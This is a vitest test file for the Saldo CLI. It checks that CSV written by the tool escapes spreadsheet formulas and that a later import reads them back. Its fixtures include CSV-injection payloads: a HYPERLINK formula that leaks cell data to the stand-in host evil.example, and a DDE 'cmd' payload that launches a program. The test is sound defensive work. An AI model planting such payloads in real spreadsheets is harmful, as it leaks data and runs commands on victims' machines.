import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../src/cli/main.js';

// Cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR first) are written escaped
// (a leading ') wherever Saldo writes CSV, and read back unescaped by the import.
const work = mkdtempSync(join(tmpdir(), 'saldo-csv-injection-'));

async function saldo(args: string[]) {
  const out = new PassThrough();
  const err = new PassThrough();
  let stdout = '';
  let stderr = '';
  out.on('data', (d) => (stdout += d));
  err.on('data', (d) => (stderr += d));
  let code = 0;
  const status = await runCli(args, {
    stdin: new PassThrough(),
    stdout: out,
    stderr: err,
    env: {
      SALDO_DATA_DIR: join(work, 'data'),
      LOG_LEVEL: 'warn',
      SALDO_SECRET_KEY: 'test-secret-0123456789abcdef',
    },
    setExitCode: (c) => (code = Math.max(code, c)),
    exitCode: () => code,
  });
  return { status, stdout, stderr };
}

describe('CSV written by Saldo neutralises spreadsheet formulas', () => {
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('the rejects file of `saldo import --valid-rows`', async () => {
    const csv = join(work, 'book.csv');
    writeFileSync(
      csv,
      [
        'external_ref,debtor_ref,first_name,last_name,country,currency,principal,email,phone',
        'CO-1,D1,Luz,Mejía,CO,COP,1500.00,luz@example.com,+573001234578',
        'CO-2,D2,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",@SUM(A1),CO,COP,-3,ana@example.com,+573001234579',
        'CO-3,D3,"-2+cmd|\' /C calc\'!A0",\tTab,CO,COP,12.00,not-an-email,+573001234570',
      ].join('\n') + '\n',
    );
    const r = await saldo(['import', csv, '--portfolio', 'co', '--valid-rows', '--no-progress']);
    expect(r.status, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/3 rows: 1 inserted, 0 updated, 0 unchanged, 2 rejected/);
    const rejects = readFileSync(`${csv}.rejects.csv`, 'utf8');
    expect(rejects).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(rejects).toContain(`'@SUM(A1)`);
    expect(rejects).toContain(`,'-2+cmd|' /C calc'!A0,`);
    expect(rejects).toContain(`"'\tTab"`);
    // Numbers and phone numbers cannot hide a formula: left as they are.
    expect(rejects).toMatch(/,-3,/);
    expect(rejects).toMatch(/,\+573001234579/);
    // No cell of the file starts a formula.
    for (const line of rejects.trim().split('\n'))
      for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=@]|^"?[+-](?![\d .]+"?$)/);

    // Fixed and imported again, the escaped cells come back as they were written.
    const fixed = join(work, 'fixed.csv');
    writeFileSync(fixed, rejects.replaceAll('not-an-email', 'ok@example.com').replace(',-3,', ',3.00,'));
    const again = await saldo(['import', fixed, '--portfolio', 'co', '--no-progress']);
    expect(again.status, again.stdout + again.stderr).toBe(0);
  });
});
